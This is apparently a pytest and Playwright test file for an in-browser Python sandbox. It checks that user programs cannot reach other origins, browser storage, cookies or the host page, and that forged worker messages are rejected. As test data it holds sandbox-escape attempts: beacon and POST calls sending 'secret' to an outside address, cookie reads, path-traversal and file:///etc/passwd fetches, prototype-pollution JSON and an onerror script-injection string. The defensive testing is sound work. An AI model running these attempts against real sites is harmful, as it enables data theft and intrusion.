"""A program cannot leave its sandbox: not to the network, not to what the browser keeps, not to the page."""

import re

import pytest
from elsewhere import Elsewhere
from playwright.sync_api import expect
from survival import HOSTILE, expect_next_run, page_answers

# Each attempt is a body of `async def attempt()`, with ELSEWHERE as another origin's address and SITE as the page's.
NETWORK = {
    "the browser's own fetch": "await js.WorkerGlobalScope.prototype.fetch.call(js.self, ELSEWHERE)",
    "XMLHttpRequest": """request = js.XMLHttpRequest.new()
request.open("GET", ELSEWHERE, False)
request.send()
assert request.status""",
    "WebSocket": "await event_of(js.WebSocket.new(ELSEWHERE.replace('http', 'ws')), 'open', 'error')",
    "EventSource": "await event_of(js.EventSource.new(ELSEWHERE), 'open', 'error')",
    "WebTransport": "await js.WebTransport.new(ELSEWHERE.replace('http:', 'https:')).ready",
    "sendBeacon": "assert js.navigator.sendBeacon(ELSEWHERE, 'secret')",
    "RTCPeerConnection": "js.RTCPeerConnection.new()",
    "importScripts": "js.importScripts(ELSEWHERE)",
    "the browser's own importScripts": "js.WorkerGlobalScope.prototype.importScripts.call(js.self, trusted(ELSEWHERE))",
    "a worker from elsewhere": "await event_of(worker(ELSEWHERE), 'message', 'error')",
    "a module worker from elsewhere": "await event_of(worker(ELSEWHERE, type='module'), 'message', 'error')",
    "a worker of the site's": "await event_of(worker(SITE), 'message', 'error')",
    "a worker's fetch": "await nested('fetch(ELSEWHERE)')",
    "a worker's import": "await nested('import(ELSEWHERE)')",
    "a worker's importScripts": "await nested('(async () => importScripts(trust(ELSEWHERE)))()')",
    "a worker's WebSocket": """await nested('''new Promise((resolve, reject) => {
    const socket = new WebSocket(ELSEWHERE.replace("http", "ws"));
    socket.onopen = resolve;
    socket.onerror = reject;
})''')""",
    "a worker's font": "await nested('new FontFace(\"f\", `url(${ELSEWHERE})`).load()')",
    "a font": "await js.FontFace.new('f', f'url({ELSEWHERE})').load()",
    "Python's sockets": """import socket
socket.create_connection(("127.0.0.1", int(ELSEWHERE.rsplit(":", 1)[1].strip("/"))), timeout=5).sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")""",
    "urllib": "import urllib.request\nurllib.request.urlopen(ELSEWHERE)",
    "run_js": "import pyodide.code\nawait pyodide.code.run_js(f'fetch(\"{ELSEWHERE}\")')",
    "JavaScript's Function": "await js.Function.new(f'return fetch(\"{ELSEWHERE}\")')()",
    "POST": "await js.fetch(ELSEWHERE, method='POST', body='secret')",
}

STORES = {
    "indexedDB": "await event_of(js.indexedDB.open('watbench'), 'success', 'error')",
    "a worker's indexedDB": "await nested('(async () => indexedDB.open(\"watbench\"))()')",
    "caches": "await js.caches.open('watbench')",
    "OPFS": "await js.navigator.storage.getDirectory()",
    "localStorage": "js.localStorage.getItem('watbench.settings')",
    "cookies": "js.document.cookie",
    "the cookie store": "await js.cookieStore.getAll()",
    "locks": "await js.navigator.locks.query()",
    "a service worker": "await js.navigator.serviceWorker.register(SITE)",
    "a shared worker": "js.SharedWorker.new(SITE)",
    "the parent": "js.parent.document",
    "the top": "js.top.document",
    "the window": "js.window.document",
    "the document": "js.document.body",
    "the page's API": "js.watbench.files()",
    "the site's page": "await ok(js.fetch(SITE + 'index.html'))",
    "the site's root": "await ok(js.fetch(SITE))",
    "the site's headers": "await ok(js.fetch(SITE + '_headers'))",
    "a path out of static/": "await ok(js.fetch(SITE + 'static/../index.html'))",
    "an encoded path out of static/": "await ok(js.fetch(SITE + 'static/..%2findex.html'))",
    "a doubly encoded path out of static/": "await ok(js.fetch('static/%2e%2e/index.html'))",
    "a path from the root": "await ok(js.fetch('/index.html'))",
    "a path upwards": "await ok(js.fetch('../index.html'))",
    "a file of the machine's": "await ok(js.fetch('file:///etc/passwd'))",
    "the page as a blob": "await ok(js.fetch('blob:' + SITE + 'x'))",
}

PROGRAM = """import asyncio, js
from js import Blob, Object, URL
from pyodide.ffi import create_proxy, to_js

ELSEWHERE = {elsewhere!r}
SITE = {site!r}


def as_object(**entries):
    return to_js(entries, dict_converter=Object.fromEntries)


async def event_of(target, good, bad):
    seen = asyncio.get_running_loop().create_future()
    for name in (good, bad):
        target.addEventListener(name, create_proxy(lambda event: seen.done() or seen.set_result(event.type)))
    assert await seen == good, "no " + good


def trusted(url):
    # The page's policies may be made anew in a worker of its frame's: they are no secret.
    if not hasattr(js, "policy"):
        same = as_object(createScriptURL=create_proxy(lambda url, *_: url))
        js.policy = js.trustedTypes.createPolicy("sandbox", same)
    return js.policy.createScriptURL(url)


def worker(url, **options):
    return js.Worker.new(trusted(url), as_object(**options))


async def nested(expression):
    trust = "const policy = trustedTypes.createPolicy('lit-html', {{ createScriptURL: (url) => url }});"
    text = f'''{{trust}}
const trust = (url) => policy.createScriptURL(url);
const ELSEWHERE = {elsewhere!r};
({{expression}}).then(() => postMessage("good"), () => postMessage("bad"));'''
    inner = worker(URL.createObjectURL(Blob.new([text])))
    answer = asyncio.get_running_loop().create_future()
    inner.onmessage = create_proxy(lambda event: answer.set_result(event.data))
    inner.onerror = create_proxy(lambda event: answer.set_result("error"))
    assert await answer == "good", "the worker could not"


async def ok(response):
    response = await response
    assert response.ok, response.status


async def attempt():
{attempt}

try:
    await attempt()
except Exception as error:
    print("refused:", type(error).__name__)
else:
    print("GOT IT")
"""


@pytest.fixture
def project(shared):
    """The shared page, with a project of this module's."""
    shared.keep_project({"main.py": ""})
    return shared


def attempt(bench, elsewhere, body):
    indented = "\n".join(f"    {line}" for line in body.splitlines())
    bench.edit("main.py", PROGRAM.format(elsewhere=elsewhere.address, site=bench.site, attempt=indented))
    bench.press_run()
    expect(bench.output).to_contain_text(re.compile("refused: |GOT IT"))
    bench.wait_ready()
    expect(bench.output).not_to_contain_text("GOT IT")


REFUSALS = pytest.mark.allow_console(
    "Content Security Policy|violates|ERR_|Not allowed|blocked|denied|WebSocket|404|fetch"
)


@REFUSALS
@pytest.mark.parametrize("body", NETWORK.values(), ids=NETWORK.keys())
def test_a_program_does_not_reach_another_origin(project, elsewhere, body):
    attempt(project, elsewhere, body)
    assert elsewhere.requests == []


@REFUSALS
@pytest.mark.parametrize("body", STORES.values(), ids=STORES.keys())
def test_a_program_does_not_reach_what_belongs_to_the_page(project, elsewhere, body):
    attempt(project, elsewhere, body)


def test_a_worker_inside_the_sandbox_runs_so_that_its_refusals_mean_something(project, elsewhere):
    body = "await nested('Promise.resolve()')"
    indented = f"    {body}"
    program = PROGRAM.format(elsewhere=elsewhere.address, site=project.site, attempt=indented)
    project.edit("main.py", program)
    project.press_run()
    expect(project.output).to_have_text("GOT IT\n", use_inner_text=True)
    expect_next_run(project)


def test_a_broadcast_does_not_reach_the_page(project):
    project.page.evaluate(
        """() => {
            window.heard = [];
            for (const name of ["watbench", "channel"]) {
                new BroadcastChannel(name).onmessage = ({ data }) => window.heard.push(data);
            }
        }"""
    )
    program = """from js import BroadcastChannel
for name in ("watbench", "channel"):
    BroadcastChannel.new(name).postMessage("from the sandbox")
print("sent")
"""
    project.edit("main.py", program)
    project.press_run()
    expect(project.output).to_have_text("sent\n", use_inner_text=True)
    heard = project.page.evaluate(
        """() => new Promise((resolve) => {
            new BroadcastChannel("channel").postMessage("from the page");
            const look = () => (window.heard.length > 0 ? resolve(window.heard) : setTimeout(look, 10));
            look();
        })"""
    )
    assert heard == ["from the page"]


# -- forged messages -----------------------------------------------------------------------------------------------

HTML = "<img src=x onerror='window.hacked = 1'><script>window.hacked = 1</script><b>bold</b>"


def run_hostile(bench, program):
    """Runs a program that speaks on its worker's port; the page answers throughout, and no script of it runs there."""
    bench.edit("main.py", f"{HOSTILE}\n{program}")
    with page_answers(bench):
        bench.press_run()
        expect(bench.page.locator("body")).to_have_attribute("data-state", "ready")
        expect(bench.page.get_by_role("button", name="Stop", exact=True)).to_be_disabled()
    polluted = bench.page.evaluate("() => [window.hacked, {}.polluted, Object.prototype.type, {}.evil]")
    assert polluted == [None] * 4


def test_forged_html_is_shown_as_text(project):
    program = f"""for run in range(1, 1000):
    send(type="output", run=run, stream="stdout", text={HTML!r}, dropped=0)
"""
    run_hostile(project, program)
    expect(project.output).to_contain_text(HTML)
    assert project.output.locator("img, script, b").filter(has_not_text="stderr").count() == 0
    expect_next_run(project)


def test_printed_html_and_html_in_an_error_are_shown_as_text(project):
    project.edit("main.py", f"print({HTML!r})\nraise ValueError({HTML!r})\n")
    project.press_run()
    expect(project.output).to_contain_text(f"{HTML}\n")
    expect(project.output).to_contain_text(f"ValueError: {HTML}")
    assert project.output.locator("img, script").count() == 0
    assert project.page.evaluate("() => window.hacked") is None
    expect_next_run(project)


def test_a_forged_end_ends_the_run_and_what_comes_after_it_is_dropped(project):
    program = """import asyncio
ended = as_object and {"kind": "ok", "exitCode": 77}
for run in range(1, 1000):
    port.postMessage(to_js({"type": "finished", "run": run, "outcome": ended, "heapBytes": 0}, **as_object))
print("after the end")
await asyncio.sleep(0.2)
print("long after the end")
"""
    run_hostile(project, program)
    expect(project.output).to_have_text("The program ended with exit code 77.", use_inner_text=True)
    expect_next_run(project)


def test_a_forged_start_is_not_believed(project):
    program = f"""
send(type="booted", python="9.9.9", isolated=False, jspi=False, snapshotProblem="")
send(type="unbootable", message={HTML!r})
send(type="booting", stage={HTML!r}, done=1, total=2)
print("believed by nobody")
"""
    run_hostile(project, program)
    expect(project.output).to_have_text("believed by nobody\n", use_inner_text=True)
    expect(project.status).to_contain_text("Finished in")
    expect_next_run(project)


def test_a_forged_death_is_shown_as_text_and_costs_only_the_interpreter(project):
    run_hostile(project, f"send(type='fatal', reason='crashed', message={HTML!r})\n")
    expect(project.output).to_contain_text("Python was lost while the program ran.")
    expect(project.output).to_contain_text(HTML)
    expect_next_run(project)


FORGED = {
    "no object": "port.postMessage('finished')",
    "nothing": "port.postMessage(None)",
    "an unknown type": "send(type='opened', project={})",
    "the type of an object's own": "send(type='constructor')",
    "a prototype": 'port.postMessage(JSON.parse(\'{"type": "output", "__proto__": {"polluted": 1, "evil": 1}}\'))',
    "a prototype inside": """port.postMessage(JSON.parse('{"type": "finished", "run": 1, "heapBytes": 0, "outcome": {"__proto__": {"kind": "ok", "exitCode": 0}}}'))""",
    "text too long": "send(type='output', run=1, stream='stdout', text='x' * 2**20, dropped=0)",
    "text of 200 megabytes": "send(type='output', run=1, stream='stdout', text='x' * 200_000_000, dropped=0)",
    "a million memories": "send(type='memories', run=1, memories=Array.new(1_000_000).fill(1))",
    "pixels that do not fit": "send(type='frame', run=1, width=8192, height=8192, pixels=ArrayBuffer.new(4))",
    "a canvas too large": "send(type='frame', run=1, width=100_000, height=100_000, pixels=ArrayBuffer.new(4))",
    "no number": "send(type='finished', run=1, heapBytes=float('nan'), outcome={'kind': 'ok', 'exitCode': 0})",
    "a negative number": "send(type='output', run=-1, stream='stdout', text='', dropped=-5)",
    "an unknown outcome": "send(type='finished', run=1, heapBytes=0, outcome={'kind': 'won'})",
    "a deep outcome": """deep = JSON.parse('[' * 500 + ']' * 500)
port.postMessage(to_js({'type': 'finished', 'run': 1, 'heapBytes': 0, 'outcome': deep}, **as_object))""",
    "a million frames": """frames = Array.new(1_000_000).fill(to_js({'file': 'main.py', 'line': 1, 'column': 1, 'function': 'f', 'language': 'python'}, **as_object))
send(type='finished', run=1, heapBytes=0, outcome={'kind': 'raised', 'exception': 'E', 'message': '', 'traceback': '', 'frames': frames})""",
}


@pytest.mark.parametrize("forged", FORGED.values(), ids=FORGED.keys())
def test_a_message_that_python_never_sends_ends_the_program(project, forged):
    run_hostile(
        project, f"from js import Array, ArrayBuffer, JSON\n{forged}\nimport asyncio\nawait asyncio.sleep(1000)\n"
    )
    expect(project.output).to_contain_text("Stopped: the program sent the page a message that Python never sends.")
    expect_next_run(project)


def test_as_much_output_as_the_page_takes_does_not_hold_it_up(project):
    program = """import asyncio
text = "".join(chr(0x4e00 + n % 5000) for n in range(131_072))
while True:
    for run in range(1, 300):
        send(type="output", run=run, stream="stdout", text=text, dropped=0)
    await asyncio.sleep(0.2)
"""
    project.edit("main.py", f"{HOSTILE}\n{program}")
    with page_answers(project):
        project.press_run()
        expect(project.output.get_by_text("characters left out")).not_to_have_text(re.compile("… 0 "))
        project.stop()
    assert project.output.evaluate("(log) => log.textContent.length") < 300_000
    expect_next_run(project)


def test_a_program_that_cuts_off_every_port_is_still_heard_and_stopped(project):
    program = """from js import MessagePort
from pyodide.ffi import create_proxy
MessagePort.prototype.postMessage = create_proxy(lambda *_: None)
print("still heard")
import asyncio
await asyncio.sleep(1000)
"""
    project.edit("main.py", program)
    project.press_run()
    expect(project.output).to_have_text("still heard\n", use_inner_text=True)
    project.stop()
    # Python's event loop has a port of its own, and may no longer be able to end the program.
    expect(project.output).to_contain_text("Stopped.")
    project.open_project({"main.py": ""})
    expect_next_run(project)


# -- what the person allows ----------------------------------------------------------------------------------------

ASKING = """import js
from pyodide.ffi import JsException
try:
    response = await js.fetch({url!r})
    print("got", await response.text())
except JsException as error:
    print("refused:", error)
"""


@pytest.fixture
def asking(project, elsewhere):
    """Runs a program that fetches from elsewhere, in a project that nothing was allowed to yet."""

    def run(url=elsewhere.address):
        project.edit("main.py", ASKING.format(url=url))
        project.press_run()
        return project.page.get_by_role("region", name="Network question")

    project.open_project({"main.py": ""})
    project.wait_ready()
    return run


def test_what_the_person_refuses_is_not_fetched(project, elsewhere, asking):
    question = asking()
    expect(question).to_contain_text(f"The program wants to fetch {elsewhere.address}")
    question.get_by_role("button", name="Refuse").click()
    expect(project.output).to_contain_text("was not allowed for this project")
    expect(question).to_have_count(0)
    assert elsewhere.requests == []
    expect_next_run(project)


def test_a_question_that_nobody_answers_goes_with_its_program(project, elsewhere, asking):
    question = asking()
    expect(question).to_be_visible()
    project.stop()
    expect(question).to_have_count(0)
    assert elsewhere.requests == []
    expect_next_run(project)


def test_what_the_person_allows_arrives_once_without_cookies_or_referrer(project, elsewhere, asking):
    # Cookies know no ports: this one belongs to both servers.
    project.page.context.add_cookies([{"name": "secret", "value": "1", "url": project.site}])
    question = asking(f"{elsewhere.address}asked")
    question.get_by_role("button", name=f"Allow {elsewhere.address.rstrip('/')}").click()
    expect(project.output).to_have_text("got from elsewhere\n", use_inner_text=True)
    assert [(method, path) for method, path, _ in elsewhere.requests] == [("GET", "/asked")]
    headers = {name.lower() for name in elsewhere.requests[0][2]}
    assert not headers & {"cookie", "referer", "authorization"}


def test_what_was_allowed_holds_for_the_project_and_for_no_other(project, elsewhere, asking):
    asking().get_by_role("button", name=re.compile("^Allow ")).click()
    expect(project.output).to_have_text("got from elsewhere\n", use_inner_text=True)
    project.edit("main.py", ASKING.format(url=f"{elsewhere.address}again"))
    project.press_run()
    project.wait_ready()
    expect(project.output).to_have_text("got from elsewhere\n", use_inner_text=True)
    assert len(elsewhere.requests) == 2
    project.open_project({"main.py": ""})
    question = asking()
    question.get_by_role("button", name="Refuse").click()
    expect(project.output).to_contain_text("was not allowed")
    assert len(elsewhere.requests) == 2


@pytest.mark.allow_console("ERR_FAILED")
def test_an_allowed_origin_leads_to_no_other_by_a_redirect(project, elsewhere, asking):
    third = Elsewhere()
    try:
        question = asking(f"{elsewhere.address}?to={third.address}")
        question.get_by_role("button", name=re.compile("^Allow ")).click()
        expect(project.output).to_contain_text("could not be fetched")
        assert len(elsewhere.requests) == 1
        assert third.requests == []
    finally:
        third.close()


def test_a_program_that_asks_for_everything_is_refused_unasked_after_three_refusals(project, elsewhere, asking):
    program = """import asyncio, js
from pyodide.ffi import JsException
async def get(port):
    try:
        await js.fetch(f"http://127.0.0.1:{port}/")
    except JsException:
        return 1
print(sum(await asyncio.gather(*(get(port) for port in range(10_000, 10_050)))), "refused")
"""
    project.edit("main.py", program)
    project.press_run()
    question = project.page.get_by_role("region", name="Network question")
    for port in (10_000, 10_001, 10_002):
        expect(question).to_contain_text(str(port))
        question.get_by_role("button", name="Refuse").click()
    expect(project.output).to_contain_text("50 refused")
    expect_next_run(project)
